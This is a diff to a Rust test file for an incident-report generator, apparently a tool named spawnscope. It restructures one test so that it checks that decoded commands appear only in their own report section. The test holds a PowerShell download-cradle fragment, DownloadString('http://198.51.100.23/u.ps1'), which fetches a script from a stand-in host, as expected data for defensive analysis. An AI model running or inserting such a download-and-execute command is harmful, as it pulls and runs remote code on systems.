@@ -1,4 +1,5 @@
 //! The whole report: how it reads, and that no text of a log becomes markup in it.
+#![expect(clippy::unwrap_used, reason = "a test that panics is a failing test")]
 
 use proptest::prelude::*;
 use spawnscope::{
@@ -62,9 +63,8 @@ fn an_untitled_report_has_a_plain_title() {
 #[test]
 fn addresses_are_harmless_but_for_the_decoded_commands() {
     let page = report(&incident());
-    let at = page.find("## Decoded commands").unwrap_or(0);
-    let end = page.find("## Indicators").unwrap_or(0);
-    let (before, decoded, after) = (&page[..at], &page[at..end], &page[end..]);
+    let (before, rest) = page.split_once("## Decoded commands").unwrap();
+    let (decoded, after) = rest.split_once("## Indicators").unwrap();
     assert!(decoded.contains("DownloadString('http://198.51.100.23/u.ps1')"));
     for part in [before, after] {
         assert!(!part.contains("http:"), "{part}");
